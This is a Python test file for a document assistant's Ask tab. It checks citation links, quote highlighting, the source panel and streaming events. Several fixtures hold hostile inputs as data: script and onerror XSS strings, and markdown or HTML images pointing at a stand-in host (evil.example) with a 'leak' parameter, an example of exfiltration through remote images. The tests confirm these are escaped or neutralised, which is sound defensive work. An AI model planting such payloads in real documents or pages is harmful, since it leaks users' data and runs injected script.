"""The Ask tab's rendering, without a browser: clickable markers, the source panel, highlights, events.

The passage shown in the source panel is untrusted document text: everything from it is
escaped, and the answer's sentences that cite it are found loosely (whitespace, emphasis
marks, list numbers and a heading glued to its text may differ) and wrapped in ``<mark>``.
"""

from __future__ import annotations

import re

import pytest

from assistant.records import Answer, AnswerEvent, Citation, EventKind
from assistant.ui.ask_tab import (
    apply_event,
    bubble,
    chat_messages,
    citation_choice,
    cite_numbers,
    derive_quotes,
    find_quote,
    finish_turn,
    highlight_passage,
    is_refusal,
    linked_answer,
    passage_lines,
    passage_text,
    picked_citation,
    source_html,
    with_quotes,
)
from assistant.ui.i18n import get_labels

LABELS = get_labels()

PASSAGE = """# องค์ประกอบของเครือข่ายความร่วมมือทางการศึกษา

เครือข่ายจะเข้มแข็งได้เมื่อสมาชิกมีส่วนร่วมจริง มีวิสัยทัศน์ร่วม ทำงานผ่านยุทธศาสตร์ที่ทุกฝ่ายร่วมคิด
และวัดความก้าวหน้าด้วยระบบประเมินและติดตามที่ต่อเนื่อง บทความต้นทางสังเคราะห์องค์ประกอบไว้ 7 ประการ
## 1. วิสัยทัศน์และเป้าหมายร่วมกัน

**จุดมุ่งหมาย:** ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน เช่น ยกระดับคุณภาพผู้เรียน
และคุณภาพครู ใช้เทคโนโลยีร่วมกัน

**กิจกรรม:** ประชุมผู้บริหารของหน่วยงานสมาชิก
## 2. การกำหนดบทบาทและหน้าที่

**จุดมุ่งหมาย:** ระบุผู้นำและผู้ประสานงาน ทั้งภายในแต่ละองค์กรและระหว่างสมาชิก พร้อมโครงสร้างคณะทำงาน
"""

LIST_ANSWER = (
    "บทความต้นทางสังเคราะห์องค์ประกอบไว้ 7 ประการ [1]\n"
    "1. 1. วิสัยทัศน์และเป้าหมายร่วมกัน: จุดมุ่งหมาย: ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน [1]\n"
    "2. 2. การกำหนดบทบาทและหน้าที่: จุดมุ่งหมาย: ระบุผู้นำและผู้ประสานงาน [1]\n"
    "3. แผนการสื่อสาร [2]"
)


def _marks(html_text: str) -> list[str]:
    return re.findall(r"<mark[^>]*>(.*?)</mark>", html_text, flags=re.S)


def _citation(n: int = 1, text: str = PASSAGE, **more) -> dict:
    base = {
        "n": n,
        "source": "framework/components.th.md",
        "title": "องค์ประกอบของเครือข่ายความร่วมมือทางการศึกษา 7 ประการ",
        "page": 1,
        "text": text,
        "chunk_id": f"c{n}",
        "section": "องค์ประกอบ › วิสัยทัศน์",
        "quotes": [],
    }
    return {**base, **more}


# ---------------------------------------------------------------- finding quotes


def test_a_quote_is_found_whatever_its_whitespace_and_emphasis() -> None:
    shown = passage_text(PASSAGE)
    spans = find_quote(shown, "ให้ทุกฝ่ายเห็นปลายทาง   เดียวกันและ\nกำหนดทิศทางการทำงาน [1]")
    assert [shown[a:b] for a, b in spans] == ["ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน"]
    # a line wrap inside the quoted text, and bold marks around part of it
    spans = find_quote(shown, "ยกระดับคุณภาพผู้เรียนและคุณภาพครู")
    assert [shown[a:b] for a, b in spans] == ["ยกระดับคุณภาพผู้เรียน และคุณภาพครู"]


def test_a_list_item_glued_to_its_heading_marks_the_heading_and_its_text() -> None:
    shown = passage_text(PASSAGE)
    quote = "1. วิสัยทัศน์และเป้าหมายร่วมกัน: จุดมุ่งหมาย: ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน"
    found = [shown[a:b] for a, b in find_quote(shown, quote)]
    assert "ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน" in found
    assert any("วิสัยทัศน์และเป้าหมายร่วมกัน" in f for f in found)
    # "จุดมุ่งหมาย" occurs twice: the one beside the item's text is taken, not the first
    second = shown.index("จุดมุ่งหมาย", shown.index("จุดมุ่งหมาย") + 1)
    assert all(a < second for a, _ in find_quote(shown, quote))


def test_a_paraphrase_marks_the_most_similar_sentence_and_nonsense_marks_nothing() -> None:
    text = "The network meets every month. Members share lesson plans and review student work together.\n"
    text += "Funding comes from the district office."
    shown = passage_text(text)
    spans = find_quote(shown, "members share their lesson plans and review the work of students")
    assert [shown[a:b] for a, b in spans] == ["Members share lesson plans and review student work together."]
    assert find_quote(shown, "สูตรต้มยำกุ้งน้ำข้น") == []
    assert find_quote(shown, "") == [] and find_quote("", "anything") == []


def test_highlighting_never_raises_on_odd_input() -> None:
    for text, quotes in [("", ["x"]), ("abc", ["", "   ", "[1]", "a" * 5000]), ("\n\n\n", ["\n"])]:
        assert isinstance(highlight_passage(text, quotes, focus="[2]"), str)


# ---------------------------------------------------------------- the passage as shown


def test_the_passage_is_shown_as_plain_text_with_wrapped_lines_joined() -> None:
    lines = passage_lines(PASSAGE)
    assert lines[0] == ("องค์ประกอบของเครือข่ายความร่วมมือทางการศึกษา", True)
    assert ("1. วิสัยทัศน์และเป้าหมายร่วมกัน", True) in lines
    shown = passage_text(PASSAGE)
    assert "**" not in shown and "#" not in shown
    # a hard-wrapped paragraph is one line again
    assert "ร่วมคิด และวัดความก้าวหน้า" in shown
    assert "\n\n\n" not in shown
    assert passage_lines("- one\n- two") == [("• one", False), ("• two", False)]


def test_the_passage_is_escaped_and_quotes_are_marked() -> None:
    text = 'Intro <script>alert("x")</script> & more.\nThe network shares <b>teachers</b> across schools.'
    out = highlight_passage(text, ["The network shares <b>teachers</b> across schools [1]"])
    assert "<script>" not in out and "<b>" not in out
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; more." in out
    assert _marks(out) == ["The network shares &lt;b&gt;teachers&lt;/b&gt; across schools"]


def test_the_focus_line_gets_its_own_mark() -> None:
    out = highlight_passage(
        PASSAGE,
        quotes=["ระบุผู้นำและผู้ประสานงาน"],
        focus="ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน",
    )
    assert '<mark class="focus">ให้ทุกฝ่ายเห็นปลายทางเดียวกันและกำหนดทิศทางการทำงาน</mark>' in out
    assert "<mark>ระบุผู้นำและผู้ประสานงาน</mark>" in out
    assert '<strong class="source-heading">1. วิสัยทัศน์และเป้าหมายร่วมกัน</strong>' in out


def test_a_highlight_over_a_line_break_is_one_mark_per_line() -> None:
    out = highlight_passage("first line of the passage\nsecond line of the passage", ["passage second line"])
    assert "\n" not in "".join(_marks(out))


# ---------------------------------------------------------------- the source panel and list


def test_the_source_panel_names_title_file_page_and_section_and_escapes_them() -> None:
    c = _citation(
        2,
        title='Plan <img src=x onerror="alert(1)">',
        source="docs/<b>plan</b>.pdf",
        page=4,
        quotes=["ให้ทุกฝ่ายเห็นปลายทางเดียวกัน"],
    )
    out = source_html(LABELS, "th", c)
    assert "<img" not in out and "<b>" not in out
    assert '<strong class="source-title">Plan &lt;img src=x onerror=&quot;alert(1)&quot;&gt;</strong>' in out
    assert '<span class="source-file">docs/&lt;b&gt;plan&lt;/b&gt;.pdf</span>' in out
    assert "หน้า 4" in out and "หัวข้อ: องค์ประกอบ › วิสัยทัศน์" in out
    assert _marks(out) == ["ให้ทุกฝ่ายเห็นปลายทางเดียวกัน"]
    # the whole passage is shown, not a snippet: its first heading and its last words
    assert "องค์ประกอบของเครือข่ายความร่วมมือทางการศึกษา</strong>" in out and "พร้อมโครงสร้างคณะทำงาน" in out
    # without a title the file name stands alone
    alone = source_html(LABELS, "en", _citation(title=""))
    assert "source-file-only" in alone and "page 1" in alone
    assert LABELS.text("ask.source_empty", "th") in source_html(LABELS, "th", None)


def test_a_passage_read_by_ocr_is_labelled_in_the_source_panel_in_the_ui_language() -> None:
    scanned = Citation(1, "report.pdf", 2, "ห้องปฏิบัติการคอมพิวเตอร์", "c1", title="รายงาน", ocr=True)
    typed = Citation(2, "report.pdf", 3, "ห้องปฏิบัติการคอมพิวเตอร์", "c2", title="รายงาน")
    for lang, label in (("th", "ข้อความจาก OCR (สแกน)"), ("en", "Text read by OCR from a scan")):
        assert LABELS.text("ask.source_ocr", lang) == label
        # the record as the Ask tab keeps it (the PASSAGES and FINAL events' citations as dicts)
        out = source_html(LABELS, lang, scanned.to_dict())
        assert f'<span class="source-ocr">{label}</span>' in out
        assert out.index("source-meta") < out.index("source-ocr") < out.index("source-text")
        assert "source-ocr" not in source_html(LABELS, lang, typed.to_dict())
    # a turn saved before citations had the flag has none: no label
    assert "source-ocr" not in source_html(LABELS, "th", _citation())


def test_sources_are_listed_by_title_with_the_file_name_beside_it() -> None:
    assert citation_choice(LABELS, "th", _citation(2, page=4)) == (
        "[2] องค์ประกอบของเครือข่ายความร่วมมือทางการศึกษา 7 ประการ — framework/components.th.md · หน้า 4",
        "2",
    )
    assert citation_choice(LABELS, "en", _citation(3, title="")) == (
        "[3] framework/components.th.md · page 1",
        "3",
    )


# ---------------------------------------------------------------- the chat


def test_markers_become_clickable_and_the_list_stays_markdown() -> None:
    out = linked_answer(LABELS, "th", LIST_ANSWER, turn=2, known=[1, 2])
    lines = out.split("\n")
    assert len(lines) == 4
    # the numbered lines stay Markdown list lines; an item's own "1." is not a list inside the list
    assert lines[1].startswith("1. วิสัยทัศน์") and lines[2].startswith("2. การกำหนด")
    assert lines[3].startswith("3. แผนการสื่อสาร")
    assert '<a class="cite cite-2-1-0" role="button" tabindex="0"' in lines[0]
    assert "cite-2-1-1" in lines[1] and "cite-2-2-3" in lines[3]
    assert out.count(">[1]</a>") == 3


def test_answer_text_is_escaped_and_unknown_or_grouped_markers_are_handled() -> None:
    out = linked_answer(LABELS, "en", "A <script>x</script> & b [1, 3] then [9] and [2-3]", 0, [1, 2, 3])
    assert "<script>" not in out and "&lt;script&gt;" in out and "&amp; b" in out
    assert "cite-0-1-0" in out and "cite-0-3-0" in out and "[9]" in out and "cite-0-9" not in out
    assert out.count('class="cite ') == 4  # [1, 3] → [1][3]; [2-3] → [2][3]
    assert cite_numbers("1, 3") == [1, 3] and cite_numbers("2-4") == [2, 3, 4] and cite_numbers("x") == []


def test_a_not_found_answer_has_no_check_this_answer_warning() -> None:
    warning = LABELS.text("ask.not_grounded", "th")
    refused = finish_turn(
        {"question": "สูตรต้มยำกุ้ง", "answer": "", "citations": []},
        Answer("ไม่พบข้อมูลนี้ในเอกสารของคุณ", [], False, "none", "th", kind="not-found"),
    )
    assert is_refusal(refused)
    assert warning not in bubble(LABELS, "th", refused)
    # an answer whose sentences are not supported still gets it
    unsupported = finish_turn(
        {"question": "q", "answer": "", "citations": []},
        Answer(
            "Something [1]", [Citation(1, "a.md", 1, "text", "c1")], False, "openai", "en", kind="explain"
        ),
    )
    assert warning not in bubble(LABELS, "en", unsupported)
    assert LABELS.text("ask.not_grounded", "en") in bubble(LABELS, "en", unsupported)
    # a saved turn from before answers had a kind: no citations and not grounded is a refusal
    assert is_refusal({"answer": "not found", "grounded": False, "citations": [], "done": True})


def test_the_question_is_escaped_in_the_chat() -> None:
    messages = chat_messages(LABELS, "th", [{"question": "<img src=x>", "answer": "", "citations": []}])
    assert messages[0]["content"] == "&lt;img src=x&gt;"


# ---------------------------------------------------------------- events and clicks


def _pieces() -> list[Citation]:
    return [Citation(1, "framework/components.th.md", 1, PASSAGE, "c1", title="องค์ประกอบ")]


def test_a_skeleton_is_shown_at_once_and_the_model_draft_is_kept_aside() -> None:
    turn: dict = {"question": "q", "answer": "", "citations": [], "done": False}
    assert apply_event(turn, AnswerEvent(EventKind.PASSAGES, citations=_pieces()))
    assert apply_event(turn, AnswerEvent(EventKind.SKELETON, text=LIST_ANSWER))
    shown = bubble(LABELS, "th", turn)
    assert turn["answer"] == LIST_ANSWER and LABELS.text("ask.model_writing", "th") in shown
    # the skeleton's lines that cite [1] are its quotes until FINAL brings the verified ones
    assert "การกำหนดบทบาทและหน้าที่: จุดมุ่งหมาย: ระบุผู้นำและผู้ประสานงาน" in turn["citations"][0]["quotes"]
    assert not apply_event(turn, AnswerEvent(EventKind.TOKEN, text="The model says"))
    assert turn["answer"] == LIST_ANSWER
    final = Answer("Model answer [1]", _pieces(), True, "embedded", "th", kind="explain")
    finish_turn(turn, final)
    assert turn["answer"] == "Model answer [1]" and "writing" not in turn and "draft" not in turn
    assert turn["citations"][0]["quotes"] == ["Model answer"]
    assert LABELS.text("ask.model_writing", "th") not in bubble(LABELS, "th", turn)
    assert LABELS.text("ask.model_writing", "en") == "The model is writing its answer… " + (
        "The answer above quotes your documents and can be used now."
    )


def test_without_a_skeleton_tokens_grow_the_answer() -> None:
    turn: dict = {"question": "q", "answer": "", "citations": [], "done": False}
    apply_event(turn, AnswerEvent(EventKind.PASSAGES, citations=_pieces()))
    assert apply_event(turn, AnswerEvent(EventKind.TOKEN, text="part one "))
    assert apply_event(turn, AnswerEvent(EventKind.TOKEN, text="[1]"))
    assert turn["answer"] == "part one [1]"
    assert LABELS.text("ask.model_writing", "th") not in bubble(LABELS, "th", turn)


def test_a_clicked_marker_picks_its_answers_source_and_line() -> None:
    first = {"question": "a", "answer": "Old answer [1]", "citations": [_citation(1, text="Old answer text")]}
    second = {"question": "b", "answer": LIST_ANSWER, "citations": [_citation(1), _citation(2, text="x")]}
    turns = [first, second]
    sources, n, focus = picked_citation("1:1:2:1712345678", turns)
    assert n == "1" and [c["n"] for c in sources] == [1, 2]
    assert focus.startswith("การกำหนดบทบาทและหน้าที่")
    old_sources, _, old_focus = picked_citation("0:1::99", turns)
    assert old_sources[0]["text"] == "Old answer text" and old_focus == ""
    for bad in ["", None, "x:1", "5:1", "0:7", "1", "-1:1", "1:1:99"]:
        found = picked_citation(bad, turns)
        assert found is None or found[2] == "", bad


def test_quotes_come_from_the_answer_when_a_citation_has_none() -> None:
    assert derive_quotes("lead [1]\n1. **a** x [2]\n2. b [1-2]") == {1: ["lead", "b"], 2: ["a x", "b"]}
    given = with_quotes([{"n": 1, "quotes": ["kept"]}, {"n": 2, "quotes": []}], "x [1]\ny [2]")
    assert given == [{"n": 1, "quotes": ["kept"]}, {"n": 2, "quotes": ["y"]}]


@pytest.mark.parametrize("lang", ["th", "en"])
def test_new_labels_exist_in_both_languages(lang: str) -> None:
    for key in ("ask.model_writing", "ask.cite_hint", "ask.source_empty"):
        assert LABELS.text(key, lang)


def test_the_status_line_tells_a_backend_that_is_down_from_a_model_answer_not_kept() -> None:
    from pathlib import Path

    from assistant.llm.backends import LLMStatus
    from assistant.settings import Settings
    from assistant.ui.ask_tab import AskService, status_text

    service = AskService(Settings(data_dir=Path("/nonexistent"), backend="openai"))
    service.status = LLMStatus("openai", "openai", True, "OpenAI-compatible server")
    down = Answer("a [1]", [], True, "none", "th", notes=["backend unavailable: timeout", "fallback:none"])
    assert "backend unavailable: timeout" in status_text(LABELS, "en", service, down)
    kept = Answer("a [1]", [], True, "none", "th", notes=["model-covers:2/7", "fallback:none", "shape:list"])
    line = status_text(LABELS, "th", service, kept)
    assert line == LABELS.text("ask.status_quoted", "th", backend=LABELS.text("codes.backend.openai", "th"))
    assert "fallback" not in line and "model-covers" not in line


REMOTE_MEDIA_DOC = """---
title: Library rules
language: en
---
# Library rules

The school library has three rules for visiting classes:

1. Each class books the library one week ahead ![](http://evil.example/pixel.png?leak=1)
2. Students return books within two weeks <img src="http://evil.example/p2.png">
3. The librarian reports lost books to the principal [see form](http://evil.example/form)
"""


def test_a_documents_remote_images_and_links_never_reach_the_chat_as_media(store, tmp_path) -> None:
    """The known exfiltration path of chat UIs: a document's remote image loaded by the browser."""
    from assistant.ask import Answerer
    from assistant.retrieval.hybrid import HybridRetriever
    from ingest.pipeline import ingest

    doc = tmp_path / "rules.md"
    doc.write_text(REMOTE_MEDIA_DOC, encoding="utf-8")
    assert ingest([doc], store).ok
    answer = Answerer(HybridRetriever(store=store, workspace="default", k=5), None, "none").ask(
        "What are the library rules for visiting classes?"
    )
    assert "![](http://evil.example/pixel.png" in answer.text  # the answer quotes the document as it is
    turn = finish_turn({"question": "rules?", "answer": "", "citations": []}, answer)
    shown = chat_messages(LABELS, "en", [turn])[1]["content"]
    assert "one week ahead" in shown and "within two weeks" in shown
    assert "![" not in shown and "<img" not in shown.lower() and "](http" not in shown
    assert "`http://evil.example/pixel.png?leak=1`" in shown  # the address is shown as text
    assert "see form (`http://evil.example/form`)" in shown
